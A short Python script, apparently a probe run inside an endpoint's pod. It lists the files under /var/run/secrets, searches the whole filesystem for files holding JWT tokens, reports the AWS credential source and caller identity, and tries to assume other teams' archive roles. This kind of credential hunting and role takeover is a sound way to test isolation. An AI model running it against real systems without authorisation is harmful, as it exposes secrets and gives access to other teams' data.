"""What the pod of the endpoint runs: it looks for tokens, and uses the credentials that the SDK finds."""

import os

import boto3
import botocore.exceptions


def files(top):
    for folder, folders, names in os.walk(top):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("proc", "sys", "dev")]
        yield from (os.path.join(folder, name) for name in names)


def is_token(path):
    try:
        with open(path, "rb") as file:
            return file.read(3) == b"eyJ"
    except OSError:
        return False  # what it can't read is no use to it


for path in files("/var/run/secrets"):
    print("file:", path)
print("files with a token (JWT):", ", ".join(filter(is_token, files("/"))) or "none")
sts = boto3.client("sts")
print("credentials by:", boto3.Session().get_credentials().method)
print("caller:", sts.get_caller_identity()["Arn"])
for team in ["blue", "red"]:
    role = "arn:aws:iam::111122223333:role/archive/" + team
    try:
        sts.assume_role(RoleArn=role, RoleSessionName="reports")
        print(f"archive of team {team}: taken")
    except botocore.exceptions.ClientError as error:
        print(f"archive of team {team}: refused: {error}")
